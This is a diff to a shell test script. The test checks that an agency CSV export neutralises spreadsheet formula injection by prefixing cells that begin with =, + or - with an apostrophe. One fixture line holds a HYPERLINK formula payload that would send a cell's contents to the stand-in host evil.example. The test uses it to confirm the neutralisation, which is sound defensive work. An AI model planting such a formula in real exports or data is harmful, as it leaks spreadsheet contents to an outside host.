@@ -65,9 +65,9 @@ curl -s -o "$TMP/opd.csv" -w '%{http_code} %{content_type}' -H "Authorization: B
 	"http://127.0.0.1:$PORT/v1/desa/$A/intervensi.csv" > "$TMP/opd.status"
 is "$(cat "$TMP/opd.status")" "200 text/csv; charset=utf-8" "the agency's GET /v1/desa/$A/intervensi.csv answers 200 text/csv"
 has() { grep -cF -- "$2" "$1" | tr -d '\n'; }
-SEL_HYPER=$ID1,,\"\''=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"'   # id, opd (none), judul
+SEL_HYPER=$ID1,\"[]\",\"\''=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"'   # id, opd (none: []), judul
 is "$(has "$TMP/opd.csv" "$SEL_HYPER")" 1 \
-	"the HYPERLINK title: \"'=HYPERLINK(...)\" (apostrophe inside the quotes, quotes doubled), its id a bare number and no agency before it"
+	"the HYPERLINK title: \"'=HYPERLINK(...)\" (apostrophe inside the quotes, quotes doubled), its id a bare number and the empty agency list before it"
 is "$(has "$TMP/opd.csv" '"=HYPERLINK')" 0 "no cell starts with =HYPERLINK"
 is "$(has "$TMP/opd.csv" "\"'+62 812 555 Bu Kader\"")" 1 "+62 812 555 Bu Kader: \"'+62 812 555 Bu Kader\""
 is "$(has "$TMP/opd.csv" "\"'-5 kg beras\"")" 1 "-5 kg beras: \"'-5 kg beras\" (text, so neutralised)"
